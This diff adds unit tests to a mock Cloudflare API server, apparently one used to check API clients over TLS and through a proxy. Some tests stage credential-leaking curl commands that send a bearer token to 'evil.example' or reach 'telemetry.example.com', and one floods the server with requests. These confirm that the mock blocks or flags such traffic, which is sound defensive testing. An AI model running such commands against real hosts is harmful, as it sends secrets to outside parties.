@@ -9,6 +9,8 @@ import ssl
 import stat
 import subprocess
 import tempfile
+import threading
+import time
 import unittest
 
 from cfmock_process import CFMOCK, NODE_CLIENT, PYTHON, PYTHON_CLOUDFLARE, SOURCE_DIR, Server, bare_environment, run
@@ -44,6 +46,16 @@ def hello(server, name, **more):
         with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname=name, **more) as tls:
             names = [value for _, value in tls.getpeercert()["subjectAltName"]]
             return names, tls.selected_alpn_protocol()
+
+
+def pour(flooder):
+    """Requests without end, until nobody takes them."""
+    requests = b"GET /client/v4/zones HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200
+    try:
+        while True:
+            flooder.stdin.write(requests)
+    except (OSError, ValueError):
+        pass
 
 
 def connect(server, target, user=None, rest=b""):
@@ -130,6 +142,67 @@ class Tls(unittest.TestCase):
         self.assertEqual(run("ca").returncode, 2)
 
 
+    def test_a_client_that_never_pauses_holds_nobody_up(self):
+        with Server(SCENARIO, "--tls") as server:
+            flooder = subprocess.Popen(["openssl", "s_client", "-quiet", "-connect", server.env["CFMOCK_ORIGIN"].removeprefix("https://"), "-CAfile", server.env["CFMOCK_CA"]],
+                                       stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            flood = threading.Thread(target=pour, args=(flooder,))
+            flood.start()
+            try:
+                for _ in range(3):
+                    begun = time.monotonic()
+                    self.assertEqual(hello(server, "localhost")[0], ["localhost"])
+                    self.assertLess(time.monotonic() - begun, 5)
+                server.process.terminate()
+                server.process.wait(10)
+            finally:
+                flooder.kill()
+                flood.join()
+                flooder.wait()
+
+    def test_no_session_is_resumed(self):
+        with Server(SCENARIO.replace("credentials:", "handshakes: [good, expired-certificate]\ncredentials:"), "--tls") as server:
+            context = trusting(server.env["CFMOCK_CA"])
+            address = ("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"]))
+            with context.wrap_socket(socket.create_connection(address, 10), server_hostname="localhost") as tls:
+                tls.sendall(b"GET /client/v4/zones HTTP/1.1\r\nHost: localhost\r\n\r\n")
+                tls.recv(65536)
+                session = tls.session
+            with self.assertRaisesRegex(ssl.SSLError, "certificate has expired"):
+                context.wrap_socket(socket.create_connection(address, 10), server_hostname="localhost", session=session)
+
+    def test_a_name_may_stand_before_the_scenario(self):
+        with Server("--tls-name", "cfmock.test", "expired-token", "--tls") as server:
+            self.assertIn("cfmock serves expired-token on ", server.first_line)
+        for name in ("", "a,permitted;DNS:com", "*.test", "mock:8443", "https://mock"):
+            done = run("serve", "expired-token", "--tls", "--tls-name", name)
+            self.assertEqual(done.returncode, 2, name)
+            self.assertIn("--tls-name takes a host name", done.stderr)
+
+    def test_every_address(self):
+        for host, at in (("0.0.0.0", "127.0.0.1"), ("::", "127.0.0.1"), ("::", "::1")):
+            with Server(SCENARIO, "--tls", "--host", host) as server:
+                self.assertTrue(server.env["CFMOCK_ORIGIN"].startswith("https://127.0.0.1:"))
+                with socket.create_connection((at, port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
+                    with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname=at) as tls:
+                        self.assertIn(("IP Address", "127.0.0.1"), tls.getpeercert()["subjectAltName"])
+
+    def test_every_method_of_plain_http_is_told_so(self):
+        with Server(SCENARIO, "--tls") as server:
+            for method in ("PATCH", "DELETE", "OPTIONS"):
+                with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
+                    plain.sendall(f"{method} /client/v4/zones HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+                    self.assertIn(b"use https://", b"".join(iter(lambda: plain.recv(4096), b"")))
+
+    def test_a_client_that_speaks_http_2_alone_is_told_by_an_alert(self):
+        with Server(SCENARIO, "--tls") as server:
+            context = ssl.create_default_context(cafile=server.env["CFMOCK_CA"])
+            context.set_alpn_protocols(["h2"])
+            with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
+                with self.assertRaisesRegex(ssl.SSLError, "(?i)no.application.protocol"):
+                    context.wrap_socket(plain, server_hostname="localhost")
+
+
 class Proxy(unittest.TestCase):
     def test_clients_with_the_host_built_in(self):
         with Server(SCENARIO, "--proxy") as server:
@@ -155,7 +228,7 @@ class Proxy(unittest.TestCase):
         client = ["sh", "-c", 'exec "$@" --auth-token "$CLOUDFLARE_API_TOKEN" list example.com A', "sh", *LEXICON]
         done = run("run", "expired-token", "--proxy", "--", *client)
         self.assertIn("GET /zones?name=example.com&status=active -> 403 9109", done.stdout)
-        self.assertNotEqual(done.returncode, 5, done.stdout)
+        self.assertEqual(done.returncode, 4, done.stdout)  # it ends in a traceback, and does not name the code
 
     def test_it_reaches_nothing_else(self):
         with Server(SCENARIO, "--proxy") as server:
@@ -173,6 +246,60 @@ class Proxy(unittest.TestCase):
             rows = server.journal()
             self.assertEqual({row["cause"] for row in rows}, {"foreign-host"})
             self.assertEqual(rows[0]["method"], "CONNECT")
+
+    def test_a_url_in_the_query_is_no_host(self):
+        with Server(SCENARIO, "--proxy") as server:
+            for path, status in (("zones?name=http://example.com/", 200), ("nonsense?u=https://api.cloudflare.com/client/v4/zones", 400)):
+                got = server.client(["sh", "-c", f'curl -sS -o /dev/null -w %{{http_code}} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "{API}/{path}"'])
+                self.assertEqual(got.stdout, str(status), path)
+            self.assertNotIn("foreign-host", [row.get("cause") for row in server.journal()])
+
+    def test_a_credential_for_another_host_is_a_leak(self):
+        with tempfile.TemporaryDirectory() as folder:
+            path = os.path.join(folder, "scenario.yaml")
+            with open(path, "w", encoding="utf-8") as out:
+                out.write(SCENARIO + "allow: [other_hosts, no_requests]\n")
+            steps = 'curl -sS -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" http://bob:hunter2@evil.example/a'
+            done = run("run", path, "--proxy", "--json", os.path.join(folder, "out.json"), "--", "sh", "-c", steps)
+            self.assertEqual(done.returncode, 4, done.stdout)
+            self.assertIn("credential sent to another host", done.stdout)
+            with open(os.path.join(folder, "out.json"), encoding="utf-8") as report:
+                self.assertNotIn("hunter2", report.read().replace(steps, ""))
+
+    def test_only_another_host_is_no_request(self):
+        with tempfile.TemporaryDirectory() as folder:
+            path = os.path.join(folder, "scenario.yaml")
+            with open(path, "w", encoding="utf-8") as out:
+                out.write(SCENARIO + "allow: other_hosts\n")
+            done = run("run", path, "--proxy", "--", "sh", "-c", "curl -sS http://telemetry.example.com/; true")
+            self.assertEqual(done.returncode, 5, done.stdout)
+
+    def test_the_environment_leaves_the_control_api_alone(self):
+        with Server(SCENARIO, "--proxy") as server:
+            got = server.client(["sh", "-c", 'curl -sS "$CFMOCK_CONTROL/ca"'], NO_PROXY=server.env["NO_PROXY"])
+            self.assertTrue(got.stdout.startswith("-----BEGIN CERTIFICATE-----"), got.stdout + got.stderr)
+            self.assertTrue(server.env["CFMOCK_ADDRESS"].startswith("http://127.0.0.1:"))
+
+    def test_a_user_that_cannot_be_read_is_nobody(self):
+        with Server(SCENARIO, "--proxy") as server:
+            with socket.create_connection(("127.0.0.1", port_of(server.env["HTTPS_PROXY"])), 10) as plain:
+                plain.sendall(b"CONNECT api.cloudflare.com:443 HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Bearer abc\r\n\r\n")
+                self.assertIn(b"HTTP/1.1 407", plain.recv(4096))
+
+    def test_openssl_through_the_proxy(self):
+        with Server(SCENARIO, "--proxy") as server:
+            shown = subprocess.run(["openssl", "s_client", "-proxy", f"127.0.0.1:{port_of(server.env['HTTPS_PROXY'])}", "-connect", "api.cloudflare.com:443",
+                                    "-verify_hostname", "api.cloudflare.com", "-verify_return_error", "-brief", "-CAfile", server.env["CFMOCK_CA"]],
+                                   input="", capture_output=True, text=True, timeout=30, check=False)
+            self.assertIn("Verification: OK", shown.stderr)
+
+    def test_a_connect_inside_a_tunnel_is_for_another_host(self):
+        with Server(SCENARIO, "--proxy") as server:
+            plain, _ = connect(server, "api.cloudflare.com:443")
+            with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname="api.cloudflare.com") as tls:
+                tls.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
+                self.assertIn(b"HTTP/1.1 403", tls.recv(65536))
+            self.assertEqual(server.journal()[-1]["cause"], "foreign-host")
 
     def test_another_host_fails_the_run(self):
         steps = 'curl -sS -o /dev/null -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "$CLOUDFLARE_BASE_URL/zones"; curl -s https://telemetry.example.com/; exit 1'
@@ -259,6 +386,42 @@ class Handshakes(unittest.TestCase):
         for name in ("expired-certificate", "wrong-name-certificate"):
             done = self.met(name, client=self.CLIENT.replace("curl", "curl -k"))
             self.assertEqual(done.returncode, 4, done.stdout)
+
+    def test_a_client_that_meets_none_has_not_passed(self):
+        for name in ("expired-certificate", "wrong-name-certificate", "handshake-failure"):
+            done = run("run", name, "--", "false")
+            self.assertEqual(done.returncode, 5, done.stdout)
+            self.assertIn("no connection met a broken handshake", done.stdout)
+        done = self.met("expired-certificate", client="env -u CURL_CA_BUNDLE -u SSL_CERT_FILE " + self.CLIENT)
+        self.assertEqual(done.returncode, 5, done.stdout)
+        self.assertIn("does not trust the CA", done.stdout)
+
+    def test_the_journal_has_them(self):
+        with tempfile.TemporaryDirectory() as folder:
+            path = os.path.join(folder, "journal.jsonl")
+            done = self.met("expired-certificate", "--journal", path)
+            self.assertEqual(done.returncode, 0, done.stdout)
+            with open(path, encoding="utf-8") as lines:
+                rows = [json.loads(line) for line in lines]
+            rows = [row for row in rows if row["kind"] == "handshake"]
+            self.assertEqual([row["shown"] for row in rows], ["expired-certificate"])
+            self.assertIn("certificate expired", rows[0]["problem"])
+            self.assertEqual(run("report", path, "expired-certificate").returncode, 0)
+
+    def test_the_alert_on_the_wire(self):
+        with Server("handshake-failure", "--tls") as server:
+            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+            tls = trusting(server.env["CFMOCK_CA"]).wrap_bio(incoming, outgoing, server_hostname="localhost")
+            with self.assertRaises(ssl.SSLWantReadError):
+                tls.do_handshake()
+            with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
+                plain.sendall(outgoing.read())
+                self.assertEqual(b"".join(iter(lambda: plain.recv(4096), b"")), b"\x15\x03\x03\x00\x02\x02\x28")
+
+    def test_several_sessions_need_the_proxy(self):
+        done = run("serve", "expired-token", "expired-certificate", "--tls")
+        self.assertEqual(done.returncode, 2)
+        self.assertIn("give --proxy", done.stderr)
 
     def test_serve_needs_tls(self):
         done = run("serve", "expired-certificate")
